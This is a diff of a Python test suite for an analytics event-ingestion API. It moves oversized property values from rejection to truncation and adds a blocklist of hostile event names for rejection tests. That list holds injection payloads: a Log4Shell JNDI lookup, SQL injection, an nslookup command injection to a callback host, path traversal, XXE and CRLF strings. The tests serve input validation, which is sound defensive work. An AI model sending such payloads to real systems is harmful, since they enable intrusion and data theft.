@@ -195,10 +195,19 @@ def test_properties_exactly_at_the_depth_limit_are_accepted_with_a_leaf_value() 
     parse_track_request(json.dumps(body))
 
 
-def test_properties_one_level_deeper_are_refused() -> None:
-    body = {"type": "track", "payload": {"name": "x", "properties": nested(MAX_PROPERTY_DEPTH + 1)}}
-    with pytest.raises(ValidationError):
-        parse_track_request(json.dumps(body))
+def test_properties_one_level_deeper_are_stored_without_the_too_deep_object() -> None:
+    # Given properties one object deeper than the bound
+    body = {"type": "track", "payload": {"name": "x", "properties": {"keep": 1, **nested(MAX_PROPERTY_DEPTH + 1)}}}
+
+    # When it is parsed
+    request = accepted_track(json.dumps(body))
+
+    # Then the event is kept, the object past the bound dropped and its path listed in __truncated
+    assert request.payload.properties.ordinary == {
+        "keep": 1,
+        "l5": {"l4": {"l3": {"l2": {}}}},
+        "__truncated": ["l5.l4.l3.l2.l1"],
+    }
 
 
 # -- track: what is rejected, and where the client is told to look -------------------------------
@@ -249,45 +258,128 @@ def test_track_rejects_properties_that_are_not_an_object(properties: str) -> Non
     assert error_fields(response) == ["payload.properties"]
 
 
-# Raw JSON text: NaN and Infinity are not JSON, but parsers (and some SDKs) produce them.
-UNSTORABLE_PROPERTIES = [
-    pytest.param('{"v": NaN}', id="NaN"),
-    pytest.param('{"v": Infinity}', id="Infinity"),
-    pytest.param('{"v": -Infinity}', id="-Infinity"),
-    pytest.param('{"v": 1e400}', id="float overflowing to infinity"),
-    pytest.param('{"v": 1e126}', id="float beyond DynamoDB range"),
-    pytest.param('{"v": 1e-200}', id="float below DynamoDB range"),
-    pytest.param('{"v": ' + "1" * (MAX_NUMBER_DIGITS + 1) + "}", id="int with 39 significant digits"),
-    pytest.param('{"v": -' + "1" * (MAX_NUMBER_DIGITS + 1) + "}", id="negative int with 39 significant digits"),
-    pytest.param('{"v": ' + "1" + "0" * 126 + "}", id="int beyond DynamoDB range"),
-    pytest.param(json.dumps(nested_objects(MAX_PROPERTY_DEPTH + 1)), id="objects nested beyond max depth"),
-    pytest.param(json.dumps({"v": [[[[[["deep"]]]]]]}), id="lists nested beyond max depth"),
-    pytest.param(json.dumps({f"k{i}": i for i in range(MAX_PROPERTY_KEYS + 1)}), id="too many keys"),
+DEEP = nested_objects(MAX_PROPERTY_DEPTH + 1)
+MANY_KEYS = {f"k{i}": i for i in range(MAX_PROPERTY_KEYS + 1)}
+NESTED_KEYS = {f"o{i}": {f"k{j}": j for j in range(30)} for i in range(7)}
+# Raw JSON text (NaN and Infinity are not JSON, but parsers and some SDKs produce them), and the properties stored:
+# what is over a bound cut or dropped, deterministically, and its path listed in __truncated.
+OVERSIZED_PROPERTIES = [
+    pytest.param('{"v": NaN, "k": 1}', {"k": 1}, ["v"], id="NaN"),
+    pytest.param('{"v": Infinity}', {}, ["v"], id="Infinity"),
+    pytest.param('{"v": -Infinity}', {}, ["v"], id="-Infinity"),
+    pytest.param('{"v": 1e400}', {}, ["v"], id="float overflowing to infinity"),
+    pytest.param('{"v": 1e126}', {}, ["v"], id="float beyond DynamoDB range"),
+    pytest.param('{"v": 1e-200}', {}, ["v"], id="float below DynamoDB range"),
+    pytest.param('{"v": ' + "1" * (MAX_NUMBER_DIGITS + 1) + "}", {}, ["v"], id="int with 39 significant digits"),
     pytest.param(
-        json.dumps({f"o{i}": {f"k{j}": j for j in range(30)} for i in range(7)}),
+        '{"v": -' + "1" * (MAX_NUMBER_DIGITS + 1) + "}", {}, ["v"], id="negative int with 39 significant digits"
+    ),
+    pytest.param('{"v": ' + "1" + "0" * 126 + "}", {}, ["v"], id="int beyond DynamoDB range"),
+    pytest.param(
+        json.dumps(DEEP),
+        {"level1": {"level2": {"level3": {"level4": {}}}}},
+        ["level1.level2.level3.level4.level5"],
+        id="objects nested beyond max depth",
+    ),
+    pytest.param(json.dumps({"v": [[[[[["deep"]]]]]]}), {"v": [[[[]]]]}, ["v.0.0.0.0"], id="lists beyond max depth"),
+    pytest.param(
+        json.dumps(MANY_KEYS),
+        {f"k{i}": i for i in range(MAX_PROPERTY_KEYS)},
+        [f"k{MAX_PROPERTY_KEYS}"],
+        id="too many keys: the first 200 kept",
+    ),
+    pytest.param(
+        json.dumps(NESTED_KEYS),
+        # 7 objects and their keys: o0..o5 with 30 keys each (186 keys), then o6 keeps its first 13 (200 in all)
+        {**{f"o{i}": {f"k{j}": j for j in range(30)} for i in range(6)}, "o6": {f"k{j}": j for j in range(13)}},
+        [f"o6.k{j}" for j in range(13, 30)],
         id="too many keys counted across nested objects",
     ),
-    pytest.param(json.dumps({"k" * (MAX_KEY_LENGTH + 1): 1}), id="too long key"),
-    pytest.param(json.dumps({"": 1}), id="empty key"),
-    pytest.param(json.dumps({"s": "x" * (MAX_STRING_LENGTH + 1)}), id="too long string"),
-    pytest.param(json.dumps({"nested": {"s": "x" * (MAX_STRING_LENGTH + 1)}}), id="too long nested string"),
-    pytest.param(json.dumps({"list": list(range(MAX_LIST_LENGTH + 1))}), id="too long list"),
+    pytest.param(json.dumps({"k" * (MAX_KEY_LENGTH + 1): 1}), {}, ["k" * MAX_KEY_LENGTH], id="too long key"),
+    pytest.param(json.dumps({"": 1, "a": 2}), {"a": 2}, [""], id="empty key"),
+    pytest.param(
+        json.dumps({"s": "x" * (MAX_STRING_LENGTH + 1)}), {"s": "x" * MAX_STRING_LENGTH}, ["s"], id="too long string"
+    ),
+    pytest.param(
+        json.dumps({"nested": {"s": "é" * (MAX_STRING_LENGTH + 1)}}),
+        {"nested": {"s": "é" * MAX_STRING_LENGTH}},
+        ["nested.s"],
+        id="too long nested string, cut in characters",
+    ),
+    pytest.param(
+        json.dumps({"list": list(range(MAX_LIST_LENGTH + 1))}),
+        {"list": list(range(MAX_LIST_LENGTH))},
+        ["list"],
+        id="too long list: the first 200 kept",
+    ),
 ]
 
 
-@pytest.mark.parametrize("properties", UNSTORABLE_PROPERTIES)
-def test_track_rejects_properties_dynamodb_could_not_store_on_payload_properties(properties: str) -> None:
+@pytest.mark.parametrize(("properties", "stored", "cut"), OVERSIZED_PROPERTIES)
+def test_track_stores_oversized_properties_cut_to_the_bounds_and_lists_the_cut_paths(
+    properties: str, stored: dict[str, Any], cut: list[str]
+) -> None:
     # Given properties beyond what one DynamoDB item (or number) can hold
     raw = '{"type": "track", "payload": {"name": "click", "properties": ' + properties + "}}"
 
     # When it is parsed
-    response = rejection(raw)
+    request = accepted_track(raw)
 
-    # Then it is a 400 with a readable detail on payload.properties, not a JSON error
-    assert response.status == 400
-    assert response.error == "Invalid request body"
-    assert error_fields(response) == ["payload.properties"]
-    assert response.details is not None and response.details[0].message
+    # Then the event is accepted, with the offending values cut or dropped and their paths in __truncated
+    assert request.payload.properties.ordinary == {**stored, "__truncated": cut}
+
+
+def test_cutting_oversized_properties_is_deterministic() -> None:
+    # Given the same oversized body twice
+    raw = track_body(properties={**MANY_KEYS, "s": "x" * (MAX_STRING_LENGTH + 5)})
+
+    # When each is parsed / Then both are stored the same
+    assert accepted_track(raw).payload.properties.ordinary == accepted_track(raw).payload.properties.ordinary
+
+
+def test_a_client_cannot_set_truncated_itself() -> None:
+    # Given a client that sends its own __truncated on properties within bounds
+    raw = track_body(properties={"a": 1, "__truncated": ["made-up"]})
+
+    # When it is parsed / Then it is dropped: only Beacon's cuts are listed
+    assert accepted_track(raw).payload.properties.ordinary == {"a": 1}
+
+
+def test_the_record_of_cuts_is_itself_bounded() -> None:
+    # Given a thousand strings over the bound
+    raw = track_body(properties={f"s{i}": "x" * (MAX_STRING_LENGTH + 1) for i in range(MAX_PROPERTY_KEYS)})
+
+    # When it is parsed
+    stored = accepted_track(raw).payload.properties.ordinary
+
+    # Then every string is cut and the first 50 paths are listed
+    assert all(len(stored[f"s{i}"]) == MAX_STRING_LENGTH for i in range(MAX_PROPERTY_KEYS))
+    assert stored["__truncated"] == [f"s{i}" for i in range(50)]
+
+
+def test_a_user_agent_override_over_its_bound_is_cut_not_refused() -> None:
+    # Given a __device override longer than 256 characters
+    raw = track_body(properties={"__device": "d" * 300, "__os": "Tizen"})
+
+    # When it is parsed
+    properties = accepted_track(raw).payload.properties
+
+    # Then it is kept, cut to 256, and listed as cut
+    assert properties.device == "d" * 256
+    assert properties.os == "Tizen"
+    assert properties.ordinary == {"__truncated": ["__device"]}
+
+
+def test_identify_properties_over_the_bounds_are_cut_too() -> None:
+    # Given an identify whose properties hold a string over the bound
+    raw = body("identify", {"profileId": "u1", "properties": {"bio": "b" * (MAX_STRING_LENGTH + 1)}})
+
+    # When it is parsed
+    request = parse_track_request(raw)
+
+    # Then the profile is kept with the string cut
+    assert isinstance(request, IdentifyRequest)
+    assert request.payload.properties == {"bio": "b" * MAX_STRING_LENGTH, "__truncated": ["bio"]}
 
 
 @pytest.mark.parametrize(
@@ -597,3 +689,64 @@ def test_validating_an_email_never_needs_dnspython() -> None:
 
     # Then the address is validated and normalised without it (no deliverability check is made)
     assert answer.stdout.strip() == "Ada@example.com"
+
+
+# -- track: event names on the blocklist (scanners and injections) --------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    "name",
+    [
+        "/wp-login.php",
+        "/wp-admin/setup-config.php",
+        "/.env",
+        "/.git/HEAD",
+        "/config.yml",
+        "/phpmyadmin/index",
+        "/index.php",
+        "${jndi:ldap://x.oastify.com/a}",
+        "1 UNION SELECT password FROM users",
+        "x' OR '1'='1",
+        "1;waitfor delay '0:0:5'",
+        "|nslookup abc.burpcollaborator.net",
+        "../../etc/passwd",
+        "..%2E%2e/win.ini",
+        "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>",
+        "click\nBcc: x@y",
+        "two\r\nlines",
+        "%{(#_memberAccess)}",
+        "/cgi-bin/luci",
+    ],
+)
+def test_track_refuses_a_blocklisted_event_name_on_payload_name(name: str) -> None:
+    # Given an event whose name is a scanner's probe or an injection string
+    raw = body("track", {"name": name})
+
+    # When it is parsed
+    response = rejection(raw)
+
+    # Then it is a 400 on payload.name, of its own type
+    assert response.status == 400
+    assert error_fields(response) == ["payload.name"]
+    assert response.details is not None and response.details[0].type == "event_name_blocked"
+
+
+@pytest.mark.parametrize(
+    "name",
+    [
+        "screen_view",
+        "/checkout",  # a path-like name an app may use
+        "/products/shoes",
+        "/about.html",
+        "Sign up (step 2)",
+        "add_to_cart: $10",
+        "what's new",
+        "button.click",
+        "select plan",
+        "union_members_page",
+        "environment",
+        "💳 purchase",
+    ],
+)
+def test_track_accepts_ordinary_names_that_only_resemble_the_blocklist(name: str) -> None:
+    assert accepted_track(body("track", {"name": name})).payload.name == name
